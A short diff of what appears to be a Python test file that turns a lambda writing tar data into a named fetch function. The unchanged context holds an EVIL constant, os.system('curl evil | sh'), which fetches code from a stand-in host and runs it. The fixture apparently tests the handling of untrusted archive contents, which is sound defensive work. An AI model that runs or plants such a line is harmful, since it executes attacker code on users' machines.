@@ -219,7 +219,11 @@ class LyingPod:
 
 def sends(members: list[tuple[tarfile.TarInfo, bytes]]) -> Fetch:
     data = tar_of(*members)
-    return lambda out, _timeout: out.write(data) and None
+
+    def fetch(out: IO[bytes], _timeout: float) -> None:
+        out.write(data)
+
+    return fetch
 
 
 EVIL = b"import os; os.system('curl evil | sh')\n"
